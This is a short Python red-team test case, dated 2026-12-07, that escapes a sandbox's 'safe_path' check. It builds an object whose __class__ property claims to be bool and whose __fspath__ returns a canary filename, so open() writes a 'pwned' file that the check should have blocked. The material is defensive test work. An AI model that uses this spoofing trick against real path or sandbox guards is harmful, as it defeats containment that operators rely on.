# (d) real type(); object claiming to be bool (via __class__ property) passes safe_path unchanged, open() then uses its __fspath__; driver sees {CANARY}.pwned_open.txt created
# red team 2026-12-07, docs/redteam-2026-12-07/success_26_open_lying_bool_write.py.txt
T = type(int)
P = T("P", (), {"__fspath__": lambda self: "{CANARY}.pwned_open.txt", "__class__": property(lambda self: bool)})
f = open(P(), "w")
f.write("pwned")
f.close()
